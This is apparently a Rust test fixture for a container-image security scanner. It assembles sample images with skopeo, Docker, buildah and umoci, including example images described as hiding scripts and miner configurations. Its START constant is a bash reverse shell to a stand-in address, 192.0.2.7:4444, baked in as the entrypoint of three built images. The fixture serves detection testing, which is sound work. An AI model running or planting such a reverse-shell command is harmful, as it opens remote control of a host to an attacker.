//! The set of images that every holder is tried with: some of the example, and some made by the
//! tools that people use.

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use crate::repository::workspace;
use crate::servers::daemons::Daemon;
use crate::servers::run;

/// Images of the example and what each brings besides its technique.
const OF_THE_EXAMPLE: &[(&str, &str)] = &[
    // The entrypoint itself, no start script.
    ("tomcat", "docker123321/tomcat:latest"),
    // A picture with a script behind its end.
    ("cron", "docker123321/cron:latest"),
    // A layer in zstd.
    ("cronm", "docker123321/cronm:latest"),
    // A file that a later layer removes.
    ("mysql4", "docker123321/mysql4:latest"),
    // Health check and a miner's configuration.
    ("mysql5", "docker123321/mysql5:latest"),
    // Nothing to be found.
    ("honest", "twins/tomcat:latest"),
];

const START: &str = "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n";

/// The set, held in every kind of file.
pub struct Set {
    folder: PathBuf,
    /// Names of its images.
    pub names: Vec<String>,
}

impl Set {
    /// Made by the first who asks.
    pub fn get() -> &'static Self {
        static SET: OnceLock<Set> = OnceLock::new();
        SET.get_or_init(Self::make)
    }

    /// The OCI layout that holds them all.
    pub fn layout(&self) -> String {
        self.path("layout")
    }

    /// One of them as skopeo names it.
    pub fn source(&self, name: &str) -> String {
        format!("oci:{}:{name}", self.layout())
    }

    /// The same for tools that write Docker's formats, which know no zstd.
    pub fn docker_source(&self, name: &str) -> String {
        format!("oci:{}:{name}", self.path("gzip-layout"))
    }

    /// One of them in an archive as `docker save` writes it, named `set/NAME:latest`.
    pub fn docker_archive(&self, name: &str) -> PathBuf {
        self.folder.join(format!("{name}.docker.tar"))
    }

    /// One of them in an OCI archive.
    pub fn oci_archive(&self, name: &str) -> PathBuf {
        self.folder.join(format!("{name}.oci.tar"))
    }

    fn path(&self, name: &str) -> String {
        self.folder.join(name).to_str().unwrap().to_owned()
    }

    fn make() -> Self {
        let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join("image-set");
        let _ = fs::remove_dir_all(&folder);
        fs::create_dir_all(&folder).unwrap();
        let mut set = Self {
            folder,
            names: Vec::new(),
        };
        let example = workspace().join("examples/docker123321");
        for (name, reference) in OF_THE_EXAMPLE {
            let source = format!("oci:{}:{reference}", example.display());
            set.take(name, &source, &["--preserve-digests"]);
        }
        let source = set.source("tomcat");
        set.take(
            "packed-with-zstd",
            &source,
            &["--dest-compress-format", "zstd"],
        );
        set.build_with_docker();
        set.build_with_buildah();
        set.build_with_umoci();
        for name in &set.names {
            let gzip = set.docker_source(name);
            let docker = set.docker_archive(name);
            let docker = format!(
                "docker-archive:{}:docker.io/set/{name}:latest",
                docker.display()
            );
            let oci = format!("oci-archive:{}:{name}", set.oci_archive(name).display());
            let copy = ["skopeo", "copy", "--quiet"];
            let options = ["--dest-compress-format", "gzip"];
            run(&[&copy[..], &options, &[&set.source(name), &gzip]].concat());
            run(&[&copy[..], &[&gzip, &docker]].concat());
            run(&[&copy[..], &[&set.source(name), &oci]].concat());
        }
        set
    }

    fn take(&mut self, name: &str, source: &str, options: &[&str]) {
        let destination = self.source(name);
        let mut words = vec!["skopeo", "copy", "--quiet"];
        words.extend(options);
        words.extend([source, &destination]);
        run(&words);
        self.names.push(name.to_owned());
    }

    /// The folder of a build with the script in it.
    fn context(&self, tool: &str) -> PathBuf {
        let context = self.folder.join(format!("{tool}-context"));
        fs::create_dir_all(&context).unwrap();
        fs::write(context.join("start.sh"), START).unwrap();
        context
    }

    fn build_with_docker(&mut self) {
        let context = self.context("docker");
        let recipe = "FROM scratch\nENV MODE=fast\nCOPY start.sh /usr/bin/start.sh\n\
                      ENTRYPOINT [\"/bin/sh\", \"/usr/bin/start.sh\"]\n";
        fs::write(context.join("Dockerfile"), recipe).unwrap();
        let archive = self.path("built-by-docker.saved.tar");
        let docker = Daemon::docker();
        docker.docker_command(&[
            "build",
            "--tag",
            "set/built-by-docker",
            context.to_str().unwrap(),
        ]);
        docker.docker_command(&["save", "--output", &archive, "set/built-by-docker"]);
        self.take("built-by-docker", &format!("docker-archive:{archive}"), &[]);
    }

    fn build_with_buildah(&mut self) {
        let script = self.context("buildah").join("start.sh");
        let storage = tempfile::TempDir::new().unwrap();
        let root = storage.path().join("root");
        let state = storage.path().join("run");
        let buildah = |words: &[&str]| {
            let (root, state) = (root.to_str().unwrap(), state.to_str().unwrap());
            let mut all = vec!["buildah", "--root", root, "--runroot", state];
            all.extend(["--storage-driver", "vfs"]);
            all.extend(words);
            run(&all).trim().to_owned()
        };
        let container = buildah(&["from", "scratch"]);
        buildah(&["add", &container, script.to_str().unwrap(), "/opt/start.sh"]);
        let entrypoint = r#"["/bin/sh", "/opt/start.sh"]"#;
        buildah(&["config", "--entrypoint", entrypoint, &container]);
        let destination = self.source("built-by-buildah");
        buildah(&["commit", "--quiet", "--rm", &container, &destination]);
        self.names.push("built-by-buildah".to_owned());
    }

    fn build_with_umoci(&mut self) {
        let script = self.context("umoci").join("start.sh");
        let image = format!("{}:built-by-umoci", self.layout());
        run(&["umoci", "new", "--image", &image]);
        run(&[
            "umoci",
            "insert",
            "--image",
            &image,
            script.to_str().unwrap(),
            "/start.sh",
        ]);
        let entrypoint = [
            "--config.entrypoint",
            "/bin/sh",
            "--config.entrypoint",
            "/start.sh",
        ];
        let mut words = vec!["umoci", "config", "--image", &image];
        words.extend(entrypoint);
        run(&words);
        self.names.push("built-by-umoci".to_owned());
    }
}
